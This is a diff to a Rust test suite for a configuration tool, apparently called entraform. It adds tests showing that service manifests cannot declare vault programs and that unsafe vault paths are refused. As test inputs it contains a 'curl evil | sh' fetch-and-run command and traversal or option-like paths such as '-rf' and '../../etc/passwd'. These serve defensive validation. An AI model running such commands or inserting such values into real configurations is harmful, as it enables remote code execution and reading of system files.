@@ -138,8 +138,12 @@ fn minimal_manifest_derives_everything() {
 fn overrides_replace_derived_values() {
     let dir = Dir::new(&[(
         "ledger.yaml",
-        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault:\n  backend: dotenv\n  path: .env\noverrides:\n  scope:\n    value: ledger.read\n  secret_env: LEDGER_SECRET\n  container_port: 8080\n",
+        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: local\noverrides:\n  scope:\n    value: ledger.read\n  secret_env: LEDGER_SECRET\n  container_port: 8080\n",
     )]);
+    dir.write(
+        "defaults.yaml",
+        &format!("{DEFAULTS}\nvaults:\n  local:\n    backend: dotenv\n    path: .env\n"),
+    );
     let d = dir.load("ledger.yaml").unwrap();
     assert_eq!(d.app.scopes[0].value, "ledger.read");
     assert_eq!(d.consent[1].scope, "ledger.read");
@@ -152,6 +156,110 @@ fn overrides_replace_derived_values() {
 }
 
 // ---- error classes: each names file:line:column, the field, the expectation, and the fix ----
+
+// ---- vaults: declared in defaults.yaml only, chosen by name ----
+
+#[test]
+fn a_service_manifest_cannot_declare_a_vault() {
+    let dir = Dir::new(&[(
+        "ledger.yaml",
+        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault:\n  backend: command\n  push: [sh, -c, \"curl evil | sh\", \"{path}\"]\n",
+    )]);
+    let (msg, hint) = dir.error("ledger.yaml");
+    assert_contains(
+        &msg,
+        "ledger.yaml:5:3: vault: a vault declaration is refused here",
+    );
+    assert_contains(
+        &msg,
+        "a service manifest cannot declare a program to run; declare it in defaults.yaml under vaults: and choose it by name",
+    );
+    assert_contains(&hint, "`vault: NAME`");
+    assert_contains(&hint, "overrides.vault_path");
+    // the same for a backend that runs nothing (a path could point anywhere)
+    dir.write(
+        "ledger.yaml",
+        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: {backend: file, path: /tmp/x.json}\n",
+    );
+    let (msg, _) = dir.error("ledger.yaml");
+    assert_contains(
+        &msg,
+        "ledger.yaml:4:8: vault: a vault declaration is refused here",
+    );
+}
+
+#[test]
+fn a_service_manifest_chooses_a_vault_by_name() {
+    let dir = Dir::new(&[(
+        "ledger.yaml",
+        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: team-pass\n",
+    )]);
+    dir.write(
+        "defaults.yaml",
+        &format!("{DEFAULTS}\nvaults:\n  team-pass:\n    backend: command\n    preset: pass\n"),
+    );
+    let d = dir.load("ledger.yaml").unwrap();
+    let entraform::vault::VaultConfig::Command(c) = &d.vault else {
+        panic!("{:?}", d.vault)
+    };
+    assert_eq!(c.preset, Some(entraform::vault::Preset::Pass));
+    assert_eq!(c.effective_push().unwrap()[..2], ["pass", "insert"]);
+    // `default` is defaults.yaml's `vault:`
+    dir.write("ledger.yaml", &format!("{MINIMAL}vault: default\n"));
+    let d = dir.load("ledger.yaml").unwrap();
+    assert_eq!(serde_json::to_value(&d.vault).unwrap()["push"][0], "axe");
+    // an unknown name, with the names there are
+    dir.write("ledger.yaml", &format!("{MINIMAL}vault: team-pas\n"));
+    let (msg, hint) = dir.error("ledger.yaml");
+    assert_contains(
+        &msg,
+        "ledger.yaml:5:8: vault: \"team-pas\" is not a vault of defaults.yaml; expected one of: default, team-pass",
+    );
+    assert_contains(&hint, "did you mean `team-pass`?");
+}
+
+#[test]
+fn vault_declarations_are_checked_in_defaults() {
+    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
+    dir.write(
+        "defaults.yaml",
+        &format!(
+            "{DEFAULTS}\nvaults:\n  broken:\n    backend: command\n    get: [pass, show, \"{{path}}\"]\n    missing: {{stderr: \"(unclosed\"}}\n    send: [mail, \"{{path}}\"]\n    env: [AZURE_CLIENT_SECRET]\n"
+        ),
+    );
+    let (msg, _) = dir.error("ledger.yaml");
+    assert_contains(&msg, "vaults.broken.push: no `push` and no `preset`");
+    assert_contains(
+        &msg,
+        "vaults.broken.missing.stderr: \"(unclosed\" is not a regular expression",
+    );
+    assert_contains(
+        &msg,
+        "vaults.broken.send: [\"mail\", \"{path}\"] does not mention {to}",
+    );
+    assert_contains(
+        &msg,
+        "vaults.broken.env[0]: \"AZURE_CLIENT_SECRET\": the operator's Azure credentials never reach a vault command",
+    );
+}
+
+#[test]
+fn vault_paths_that_read_as_options_or_climb_are_refused() {
+    for (path, why) in [
+        ("-rf", "starts with `-`"),
+        ("hive/../../etc/passwd", "contains `..`"),
+        ("hive/\\u001b[2Jx", "contains a control character"),
+    ] {
+        let dir = Dir::new(&[(
+            "ledger.yaml",
+            &format!("{MINIMAL}overrides:\n  vault_path: \"{path}\"\n"),
+        )]);
+        let (msg, hint) = dir.error("ledger.yaml");
+        assert_contains(&msg, "ledger.yaml:6:15: overrides.vault_path:");
+        assert_contains(&msg, why);
+        assert_contains(&hint, "remove the override");
+    }
+}
 
 #[test]
 fn service_name_with_a_capital_letter() {
